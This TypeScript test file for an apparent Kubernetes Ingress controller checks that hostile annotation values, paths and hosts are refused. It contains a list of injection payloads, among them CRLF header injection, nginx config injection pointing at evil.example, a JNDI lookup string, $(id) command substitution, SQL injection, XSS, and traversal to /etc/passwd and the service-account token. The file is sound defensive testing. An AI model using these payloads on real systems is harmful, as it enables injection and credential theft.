// Nothing a tenant writes becomes code, configuration text, a regex, a header or a file name:
// hostile annotation values are refused with a diagnostic and the Ingress keeps serving with
// defaults — except where the annotation asks for a protection (a source range, a snippet): then
// the Ingress is refused (never weaker than asked); hostile paths and hosts are refused alone (an
// invalid path's stand-in answers 503, with none of its text); internal keys never collide.
// Tested through the real annotation parser and the real builder.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseIngressPolicy } from '../../src/core/annotations/parse-ingress-policy.ts';
import { ANNOTATIONS, GATEHOUSE_PREFIX, NGINX_ANNOTATIONS, NGINX_NOT_MAPPED, NGINX_PREFIX } from '../../src/core/annotations/annotation-schema.ts';

/** Keys that ask for a protection: a hostile value refuses the Ingress instead of leaving the default. */
const PROTECTION_KEYS = new Set([
  ...ANNOTATIONS.filter((a) => a.protection === true).map((a) => GATEHOUSE_PREFIX + a.name),
  ...NGINX_ANNOTATIONS.filter((m) => m.protection === true).map((m) => NGINX_PREFIX + m.name),
]);
const APP_ROOT_KEYS = new Set([GATEHOUSE_PREFIX + 'app-root', NGINX_PREFIX + 'app-root']);
const SAFE_PATH = /^\/[A-Za-z0-9._~\/-]*$/;
/**
 * Paths and URL prefixes of the upstream edits (rewrite-target, x-forwarded-prefix,
 * proxy-redirect-from/-to): a hostile-looking but well-formed value (`../../etc/passwd`, a file
 * path) is typed data of URL characters sent as a path or header value, never read as a file.
 */
const UPSTREAM_PATH_KEYS = new Set(
  ['rewrite-target', 'x-forwarded-prefix', 'proxy-redirect-from', 'proxy-redirect-to'].flatMap((n) => [GATEHOUSE_PREFIX + n, NGINX_PREFIX + n]),
);
const SAFE_URL_TEXT = /^[A-Za-z0-9._~\/:-]*$/;
/** Keys that change what a route answers (redirects, CORS): a hostile value refuses the Ingress too, as an action. */
const ACTION_KEYS = new Set([
  ...ANNOTATIONS.filter((a) => a.action === true).map((a) => GATEHOUSE_PREFIX + a.name),
  ...NGINX_ANNOTATIONS.filter((m) => m.action === true).map((m) => NGINX_PREFIX + m.name),
]);
import { buildRouteTable } from '../../src/core/build-route-table.ts';
import { DEFAULT_POLICY } from '../../src/core/policy.ts';
import { objectKey } from '../../src/core/model.ts';
import { findMatchingRoute } from '../../src/core/path-match.ts';
import { ingress, options, rule, service, slice, endpoint, snapshotOf } from '../core/fixtures.ts';
import { RawConnection } from '../support/raw-http.ts';
import { startProcessFixture } from './process-fixture.ts';
import { HOST } from './harness.ts';

/** Values shaped like the ingress-nginx CVEs and other injections, plus plain abuse. */
export const HOSTILE_VALUES: readonly string[] = [
  'x\r\nX-Injected: 1',
  'x\nmore_set_headers "X-Injected: 1";',
  '10s\r\n',
  'on\x00',
  'a\tb',
  'x\x1b[31m',
  '"; } location /evil { return 200; #',
  "'; drop table x; --",
  '}}} ',
  '${jndi:ldap://evil.example/a}',
  '$(id)',
  '`id`',
  '{{ .Values.secret }}',
  '#{7*7}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  'cookie\\u0000',
  'a'.repeat(10_000),
  '\u202e10s',
  'é',
  ' 10s; proxy_pass http://evil.example',
  '(?i).*',
  '.*|',
];

const ALL_KEYS: string[] = [
  ...ANNOTATIONS.map((a) => GATEHOUSE_PREFIX + a.name),
  ...NGINX_ANNOTATIONS.map((m) => NGINX_PREFIX + m.name),
  ...NGINX_NOT_MAPPED.map((m) => NGINX_PREFIX + m.name),
];

function ingressWith(annotations: Record<string, string>, name = 'app', namespace = 'team') {
  return ingress(name, { namespace, annotations, rules: [rule('app.example', ['/', 'Prefix', 'web', 80])] });
}

test(`every known annotation (${ALL_KEYS.length} keys) refuses every hostile value (${HOSTILE_VALUES.length}) with a diagnostic; the policy keeps its default`, () => {
  let checked = 0;
  for (const key of ALL_KEYS) {
    for (const value of HOSTILE_VALUES) {
      const { policy, diagnostics } = parseIngressPolicy(ingressWith({ [key]: value }));
      // app-root's value is a URL path on the same host: a hostile-looking but well-formed path (a
      // file path under /var/run) is a harmless Location, kept exactly as written, never read as a file.
      if (APP_ROOT_KEYS.has(key) && SAFE_PATH.test(value)) {
        assert.equal(policy.appRoot, value, `${key}=${JSON.stringify(value.slice(0, 40))} kept as typed data`);
        checked++;
        continue;
      }
      if (UPSTREAM_PATH_KEYS.has(key) && SAFE_URL_TEXT.test(value) && policy.refused === undefined) {
        assert.ok(!diagnostics.some((d) => d.severity === 'error'), `${key}=${JSON.stringify(value.slice(0, 40))}`);
        checked++;
        continue;
      }
      // An action refuses only where it would act: cors-* without enable-cors is reported and has no effect.
      const acts = ACTION_KEYS.has(key) && policy.refused !== undefined;
      if (/(permanent|temporal)-redirect$/.test(key)) assert.ok(acts, `${key}=${JSON.stringify(value.slice(0, 40))} must refuse: a redirect always acts`);
      const refusal = PROTECTION_KEYS.has(key) ? 'AnnotationProtectionInvalid' : acts ? 'AnnotationActionInvalid' : undefined;
      const expected = refusal !== undefined ? { ...DEFAULT_POLICY, refused: { code: refusal, annotation: key } } : { ...DEFAULT_POLICY };
      assert.deepEqual(policy, expected, `${key}=${JSON.stringify(value.slice(0, 40))} changed the policy`);
      assert.ok(diagnostics.length >= 1, `${key}=${JSON.stringify(value.slice(0, 40))} was silently accepted`);
      for (const d of diagnostics) {
        assert.ok(d.code.startsWith('Annotation'), d.code);
        assert.equal(d.object.name, 'app');
        // The message is safe to log: bounded, no control bytes, never the raw long value.
        assert.ok(!/[\x00-\x1f\x7f\u202e]/.test(d.message), `${key}: unsafe diagnostic message ${JSON.stringify(d.message)}`);
        assert.ok(d.message.length < 600, `${key}: message of ${d.message.length} characters`);
      }
      checked++;
    }
  }
  assert.equal(checked, ALL_KEYS.length * HOSTILE_VALUES.length);
});

test('all hostile annotations at once: the policy is exactly the default but refused, one diagnostic per key', () => {
  const annotations: Record<string, string> = {};
  ALL_KEYS.forEach((key, i) => (annotations[key] = HOSTILE_VALUES[i % HOSTILE_VALUES.length]!));
  const { policy, diagnostics } = parseIngressPolicy(ingressWith(annotations));
  // Well-formed paths that look hostile are typed data (see above): only URL characters, if any.
  const { refused, appRoot, rewrite, regexPaths, proxyRedirect, ...rest } = policy;
  for (const text of [appRoot, rewrite?.target, rewrite?.forwardedPrefix, proxyRedirect?.from, proxyRedirect?.to]) {
    if (text !== undefined) assert.match(text, SAFE_URL_TEXT);
  }
  assert.ok(regexPaths === undefined || rewrite !== undefined);
  assert.deepEqual(rest, { ...DEFAULT_POLICY });
  assert.equal(refused?.code, 'AnnotationProtectionInvalid', 'a hostile source range refuses the Ingress');
  const keysReported = new Set(diagnostics.map((d) => d.field));
  // Every key is reported, except those whose value was a well-formed path kept as typed data, and
  // the ingress-nginx keys for the same setting, which the gatehouse.dev/ key then wins over unread.
  const isTypedData = (k: string): boolean => (UPSTREAM_PATH_KEYS.has(k) || APP_ROOT_KEYS.has(k)) && SAFE_URL_TEXT.test(annotations[k]!);
  const twin = (k: string): string | undefined => {
    const field = NGINX_ANNOTATIONS.find((m) => NGINX_PREFIX + m.name === k)?.field;
    const spec = ANNOTATIONS.find((a) => a.field === field);
    return spec === undefined ? undefined : GATEHOUSE_PREFIX + spec.name;
  };
  const unreported = ALL_KEYS.filter((k) => !keysReported.has(`metadata.annotations[${JSON.stringify(k)}]`));
  for (const k of unreported) {
    const t = twin(k);
    assert.ok(isTypedData(k) || (t !== undefined && isTypedData(t)), `${k}=${JSON.stringify(annotations[k]!.slice(0, 40))} was not reported`);
  }
});

/** A snapshot with one good Ingress path, one hostile Ingress, and their Service. */
function hostileSnapshot() {
  const hostile = ingress('hostile', {
    namespace: 'team',
    annotations: { 'gatehouse.dev/read-timeout': '10s\r\nX-Injected: 1', 'nginx.ingress.kubernetes.io/configuration-snippet': 'more_set_headers "X-Injected: 1";\ndeny all;' },
    rules: [
      rule(
        'app.example',
        ['/good', 'Prefix', 'web', 80],
        ['/api/v[0-9]+', 'Prefix', 'web', 80],
        ['/(.*)', 'ImplementationSpecific', 'web', 80],
        ['/foo/bar/;xpto', 'Exact', 'web', 80],
        ['/x\r\nX-Injected: 1', 'Prefix', 'web', 80],
        ['/../../etc/passwd', 'Prefix', 'web', 80],
        ['/%2e%2e/admin', 'Prefix', 'web', 80],
        ['/nul\u0000', 'Exact', 'web', 80],
      ),
      rule('evil.example\r\nX-Injected: 1', ['/', 'Prefix', 'web', 80]),
      rule('*.*.example', ['/', 'Prefix', 'web', 80]),
    ],
  });
  return snapshotOf([hostile, service('web', [{ name: 'http', port: 80 }], { namespace: 'team' }), slice('web-1', 'web', [{ name: 'http', port: 8080 }], [endpoint('10.0.0.1')], { namespace: 'team' })]);
}

test('the builder refuses hostile paths and hosts alone, keeps the good path, and no hostile text reaches the table', () => {
  const { table, diagnostics } = buildRouteTable(hostileSnapshot(), options());
  const vh = table.virtualHosts.find((v) => v.host === 'app.example');
  assert.ok(vh !== undefined, 'the Ingress keeps serving its good parts');
  // The hostile paths answer 503 over their valid leading elements (refused stand-ins), never their text.
  assert.deepEqual(vh.routes.map((r) => `${r.path}${r.refused === undefined ? '' : ` ${r.refused}`}`), ['/foo/bar PathInvalid', '/api PathInvalid', '/good', '/ PathInvalid']);
  assert.deepEqual(table.virtualHosts.map((v) => v.host), ['app.example']);
  const codes = diagnostics.map((d) => d.code);
  assert.equal(codes.filter((c) => c === 'PathInvalid').length, 7, JSON.stringify(diagnostics, null, 1));
  assert.equal(codes.filter((c) => c === 'HostInvalid').length, 2);
  assert.ok(codes.some((c) => c.startsWith('Annotation')));
  // The serialised table (what the data plane compiles) carries none of the hostile text.
  const json = JSON.stringify(table);
  for (const needle of ['X-Injected', 'more_set_headers', '[0-9]', '(.*)', ';xpto', 'passwd', '%2e', '\\r', '\\n', '\\u0000', 'evil']) {
    assert.ok(!json.includes(needle), `${needle} reached the route table`);
  }
  // The configuration-snippet holds what the safe subset refuses (deny): the whole Ingress is refused.
  assert.deepEqual(table.policies['team/hostile'], { ...DEFAULT_POLICY, refused: { code: 'SnippetUnsupported', annotation: 'nginx.ingress.kubernetes.io/configuration-snippet' } });
  // Diagnostics are data: safe to log as JSON lines (no raw control bytes in messages).
  for (const d of diagnostics) assert.ok(!/[\x00-\x1f]/.test(d.message), JSON.stringify(d.message));
});

test('keys are unambiguous: a-b/c and a/b-c never collide (objects, routes, backends, policies)', () => {
  assert.notEqual(objectKey({ namespace: 'a-b', name: 'c' }), objectKey({ namespace: 'a', name: 'b-c' }));
  const one = ingress('c', { namespace: 'a-b', created: '2025-01-01T00:00:00Z', annotations: { 'gatehouse.dev/retries': '0' }, rules: [rule('app.example', ['/one', 'Prefix', 'c', 80])] });
  const two = ingress('b-c', { namespace: 'a', created: '2025-01-02T00:00:00Z', annotations: { 'gatehouse.dev/retries': '3' }, rules: [rule('app.example', ['/two', 'Prefix', 'c', 80])] });
  const objects = [
    one,
    two,
    service('c', [{ name: 'http', port: 80 }], { namespace: 'a-b' }),
    service('c', [{ name: 'http', port: 80 }], { namespace: 'a' }),
    slice('c-1', 'c', [{ name: 'http', port: 8080 }], [endpoint('10.0.0.1')], { namespace: 'a-b' }),
    slice('c-1', 'c', [{ name: 'http', port: 8080 }], [endpoint('10.0.0.2')], { namespace: 'a' }),
  ];
  const { table, diagnostics } = buildRouteTable(snapshotOf(objects), options());
  assert.deepEqual(diagnostics.filter((d) => d.severity === 'error'), []);
  const routes = table.virtualHosts.find((v) => v.host === 'app.example')?.routes ?? [];
  const r1 = findMatchingRoute(routes, '/one');
  const r2 = findMatchingRoute(routes, '/two');
  assert.ok(r1 && r2);
  assert.notEqual(r1.id, r2.id);
  assert.notEqual(r1.backend, r2.backend);
  assert.notEqual(r1.policy, r2.policy);
  assert.deepEqual(table.backends[r1.backend]?.endpoints.map((e) => e.address), ['10.0.0.1']);
  assert.deepEqual(table.backends[r2.backend]?.endpoints.map((e) => e.address), ['10.0.0.2']);
  assert.equal(table.policies[r1.policy]?.retries, 0);
  assert.equal(table.policies[r2.policy]?.retries, 3);
  // Same for names that look like each other across the separator, in every id.
  for (const id of [r1.id, r1.backend, r1.policy]) assert.ok(id.startsWith('a-b/'), id);
  for (const id of [r2.id, r2.backend, r2.policy]) assert.ok(id.startsWith('a/'), id);
});

// Snippets refuse their Ingress (test/e2e/fail-closed.test.ts): here, only annotations that tune.
test('end to end (manifest mode, real process): an Ingress with hostile tuning annotations keeps serving with defaults, nothing injected upstream', async () => {
  const annotations = [
    `"gatehouse.dev/read-timeout": "10s\\r\\nX-Injected: 1"`,
    `"gatehouse.dev/session-cookie-name": "x\\nSet-Cookie: admin=1"`,
    `"nginx.ingress.kubernetes.io/proxy-connect-timeout": "60; more_set_headers \\"X-Injected: 1\\";"`,
    `"nginx.ingress.kubernetes.io/load-balance": "ewma { return 200; }"`,
    `"gatehouse.dev/max-body-size": "${'9'.repeat(400)}"`,
  ].join(', ');
  const f = await startProcessFixture([], { annotations });
  try {
    const conn = await RawConnection.connect({ port: f.gh.ports.http });
    try {
      await conn.send(`GET /served HTTP/1.1\r\nHost: ${HOST}\r\nConnection: close\r\n\r\n`);
      const r = await conn.readResponse();
      assert.ok(r !== 'closed');
      assert.equal(r.status, 200);
      assert.ok(!r.raw.toString('latin1').toLowerCase().includes('x-injected'));
      assert.ok(!r.raw.toString('latin1').toLowerCase().includes('set-cookie'));
    } finally {
      conn.destroy();
    }
    const upstream = f.publicBackend.allBytes().toString('latin1').toLowerCase();
    assert.ok(upstream.includes('get /served'));
    assert.ok(!upstream.includes('x-injected'));
    const diagnostics = (await (await fetch(`${f.gh.adminUrl}/debug/diagnostics`)).json()) as unknown;
    const text = JSON.stringify(diagnostics);
    for (const key of ['gatehouse.dev/read-timeout', 'gatehouse.dev/session-cookie-name', 'proxy-connect-timeout', 'load-balance', 'gatehouse.dev/max-body-size']) {
      assert.ok(text.includes(key), `no diagnostic for ${key}: ${text.slice(0, 500)}`);
    }
    const routes = JSON.stringify(await (await fetch(`${f.gh.adminUrl}/debug/routes`)).json());
    assert.ok(!routes.toLowerCase().includes('x-injected') && !routes.includes('more_set_headers'));
  } finally {
    await f.close();
  }
});
